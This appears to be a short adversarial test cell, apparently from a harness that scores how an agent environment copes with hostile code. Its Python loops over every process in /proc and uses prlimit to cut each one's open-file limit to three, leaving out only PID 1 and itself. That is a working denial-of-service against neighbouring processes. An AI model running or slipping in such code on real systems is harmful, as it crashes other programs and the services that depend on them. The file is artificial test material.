# /// hostile
# about = "A cell takes files, memory and time from the agent by lowering its limits."
# score = 0.0
# causes = { "double.values" = "crash", "Scale.forward" = "crash", "Scale.gradient" = "crash", "word.word" = "crash" }
# ///
# %%
import os
import resource

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) not in (1, os.getpid()):
        resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (3, 3))
